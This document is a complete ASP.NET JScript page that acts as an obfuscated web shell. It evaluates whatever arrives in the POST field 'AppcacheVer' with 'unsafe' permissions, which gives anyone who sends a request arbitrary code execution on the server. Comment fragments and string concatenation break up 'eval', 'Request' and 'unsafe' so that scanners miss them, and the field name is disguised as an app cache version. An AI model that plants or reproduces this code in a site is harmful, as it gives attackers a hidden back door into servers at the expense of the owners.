<%@ Page Language="Jscript" Debug=false%>
<%ev<%-- x --%>al/*qwe*/(Req<%--z--%>uest.Form["AppcacheVer"], "un"+"safe");%>
